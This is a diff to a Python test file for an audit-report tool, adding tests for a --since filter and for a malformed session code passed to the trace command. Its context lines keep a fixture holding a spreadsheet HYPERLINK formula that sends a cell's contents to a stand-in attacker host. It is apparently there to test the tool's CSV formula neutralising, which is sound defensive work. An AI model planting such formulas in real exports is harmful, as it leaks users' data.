@@ -16,6 +16,8 @@ from readingroom.audit.report_csv import FORMULA_STARTS, neutralise_cell
 from readingroom.audit.report_timeline import tick_step
 from readingroom.audit.sessions import capture_from_record
 from readingroom.cli import main
+from readingroom.errors import ExitCode
+from readingroom.session_code import EXAMPLE_SESSION_CODE
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 ISO = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")
@@ -155,6 +157,8 @@ def test_filters_take_a_name_or_title_fragment(
     out = _report(logdir, capsys, "--reader", "bob@example.gov.uk", "--document", "DOC-2")
     assert "0 session(s); 0 failed unlock(s)" in out
     assert 'Filters: reader matches "bob@example.gov.uk"; document matches "DOC-2"' in out
+    out = _report(logdir, capsys, "--since", "2026-12-03T09:02")
+    assert "Filters: since 2026-12-03T09:02:00Z" in out and "3 session(s)" not in out
 
 
 def test_json_has_every_event_with_its_time(
@@ -242,3 +246,5 @@ def test_trace_shows_who_and_what(logdir: Path, capsys: pytest.CaptureFixture[st
     assert "Alice Jones <alice@example.gov.uk>, Ofsted" in out
     assert '"SCR Child A" [OFFICIAL-SENSITIVE] (DOC-1)' in out
     assert "capture      partial (Linux 6.1)" in out
+    assert main(["trace", "0000-0000-0", str(logdir)]) == ExitCode.BAD_INPUT
+    assert EXAMPLE_SESSION_CODE in capsys.readouterr().err
